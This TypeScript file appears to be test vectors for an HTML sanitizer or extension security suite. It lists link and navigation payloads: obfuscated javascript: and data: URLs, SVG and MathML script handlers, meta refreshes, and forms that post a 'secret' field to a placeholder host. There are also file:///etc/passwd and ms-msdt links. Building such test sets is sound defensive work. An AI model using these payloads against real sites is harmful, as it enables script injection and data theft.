import { vectors } from '../vector.ts';

/** Addresses that would run or lead out of the frame, in every place that takes an address. */
export const linkVectors = vectors('link', {
  javascript: '<a href="javascript:alert(1)">x</a>',
  'javascript, mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript, tab inside': '<a href="java\tscript:alert(1)">x</a>',
  'javascript, entities': '<a href="&#106;avascript&colon;alert(1)">x</a>',
  'javascript, new line entity': '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  'javascript, control character in front': '<a href="\u0001javascript:alert(1)">x</a>',
  'javascript, wide space in front': '<a href="\u3000javascript:alert(1)">x</a>',
  'javascript behind a comment line': '<a href="javascript://HOST/%0Aalert(1)">x</a>',
  'javascript in svg link': '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  'javascript in math':
    '<math><mtext href="javascript:alert(1)">x</mtext><maction actiontype="statusline#https://HOST" xlink:href="javascript:alert(1)">x</maction></math>',
  'javascript in area':
    '<img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=99 height=99><map name=m><area shape=default href="javascript:alert(1)"></map>',
  'javascript in form': '<form action="javascript:alert(1)"><input type=submit autofocus></form>',
  'javascript in button': '<form><button formaction="javascript:alert(1)">x</button></form>',
  'javascript in base': '<base href="javascript:alert(1)//"><a href="#">x</a>',
  data: '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'data, base64': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'data, image that is svg':
    '<a href="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>">x</a>',
  'blob, file and view-source':
    '<a href="blob:https://HOST/1">x</a><a href="file:///etc/passwd">x</a><a href="view-source:https://HOST">x</a>',
  'extension pages':
    '<a href="chrome-extension://abcdefghijklmnop/popup.html">x</a><a href="moz-extension://x/popup.html">x</a><a href="about:config">x</a>',
  programs:
    '<a href="ms-msdt:/id">x</a><a href="search-ms:query=x">x</a><a href="vbscript:x">x</a><a href="tel:+1">x</a>',
  relative:
    '<a href="/options.html">x</a><a href="popup.html?x">x</a><a href="//HOST/x">x</a><a href="\\\\HOST\\x">x</a>',
  'target top': '<a target=_top href="javascript:alert(1)">x</a><a target=_parent href="#x">x</a>',
  anchor: '<a href="#end">x</a><p id=end>end</p>',
  'anchor to nothing': '<a href="#">x</a><a href="#no-such">x</a><a href="">x</a>',
  'anchor with markup': '<a href="#&quot;><img src=x onerror=alert(1)>">x</a>',
  ping: '<a href="#x" ping="https://HOST/ping">x</a>',
  attribution: '<a href="#x" attributionsrc="https://HOST/a">x</a><img attributionsrc="https://HOST/b">',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://HOST/refresh">',
  'meta refresh to data': '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  'meta refresh in svg':
    '<svg><style></style></svg><noscript><meta http-equiv=refresh content="0;https://HOST/"></noscript>',
  'form that sends itself':
    '<form action="https://HOST/form" id=f><input name=q value=secret></form><button form=f autofocus>x</button>',
  'form with image button': '<form action="https://HOST/form"><input type=image src="https://HOST/button.png"></form>',
  'form with dialog':
    '<form method=dialog onsubmit=alert(1)><button>x</button></form><dialog open onclose=alert(1)>x</dialog>',
  'search form': '<form role=search action="//HOST"><input type=search autofocus onsearch=alert(1)></form>',
  'link with dialogs': '<button command=show-modal commandfor=d>x</button><dialog id=d oncancel=alert(1)>x</dialog>',
  interest: '<a href="#x" interestfor=d interesttarget=d>x</a><p popover id=d oninterest=alert(1)>x</p>',
});
